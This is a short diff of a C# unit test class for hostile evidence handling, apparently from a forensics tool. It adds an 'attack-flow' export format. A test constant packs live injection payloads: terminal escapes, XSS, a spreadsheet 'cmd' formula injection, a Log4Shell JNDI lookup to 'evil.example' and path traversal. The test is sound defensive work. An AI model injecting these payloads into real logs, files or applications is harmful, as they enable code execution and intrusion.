@@ -13,7 +13,7 @@ public sealed class HostileEvidenceTests
     // A user agent of a W3C log has no blank; what looks like one here is a plus.
     private const string Hostile = "antSword/v2.1\u001b]0;title\u0007\u001b[31m\u009b31m\u202e<script>alert(1)</script>\"><img+src=x+onerror=alert(1)>'\";=cmd|'/c+calc'!A1,${jndi:ldap://evil.example}\\..\\..\\x";
 
-    private static readonly string[] Exports = ["stix", "misp", "navigator", "indicators", "sigma", "markdown"];
+    private static readonly string[] Exports = ["stix", "attack-flow", "misp", "navigator", "indicators", "sigma", "markdown"];
     private static readonly string[] Timelines = ["csv", "jsonl", "timesketch", "l2t"];
 
     [Fact]
